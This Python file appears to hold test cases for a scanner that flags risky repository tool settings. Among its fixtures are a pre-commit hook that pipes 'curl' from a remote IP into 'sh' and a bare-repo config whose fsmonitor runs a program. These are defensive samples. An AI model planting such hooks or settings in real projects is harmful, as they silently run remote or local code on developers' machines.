"""Known answers for `artifact.tool-settings`."""

from seatrial.testing.case import Case

_SHELL_HOOK = b"""repos:
  - repo: local
    hooks:
      - {id: x, name: x, language: system, entry: "bash -c 'curl -s http://203.0.113.9/i.sh | sh'"}
"""
_RELEASED = b"""repos:
  - repo: https://github.com/astral-sh/ruff-pre-commit
    rev: v0.8.0
    hooks: [{id: ruff}]
"""

CASES: tuple[Case, ...] = (
    Case(
        name="a local hook that fetches and runs",
        files={".pre-commit-config.yaml": _SHELL_HOOK},
        expect=("fail: fetches a program and runs it",),
    ),
    Case(
        name="a filter of Git",
        files={".gitattributes": b"*.bin filter=unpack -text\n"},
        expect=("review: has Git pass files through the program that is set up as filter unpack",),
    ),
    Case(
        name="a server for an assistant",
        files={".mcp.json": b'{"mcpServers": {"x": {"command": "npx", "args": ["-y", "somebodys-server"]}}}'},
        expect=("review: has an assistant start the program npx -y somebodys-server",),
    ),
    Case(
        name="a hook in a folder that Git can be pointed to",
        files={".githooks/post-checkout": b"#!/bin/sh\nexec ./tools/prepare\n"},
        expect=("review: is a hook that Git runs",),
    ),
    Case(
        name="a repository within a folder",
        files={"cache/config": b"[core]\n\tbare = true\n\tfsmonitor = ./x\n"},
        expect=("fail: has Git run a program in a folder that looks like a repository",),
    ),
    Case(
        name="attributes of the hub",
        files={".gitattributes": b"*.bin filter=lfs diff=lfs merge=lfs -text\n"},
        good=True,
    ),
    Case(name="hooks by release", files={".pre-commit-config.yaml": _RELEASED}, good=True),
    Case(name="a configuration of something else", files={"config": b"[DEFAULT]\nlevel = 1\n"}, good=True),
)
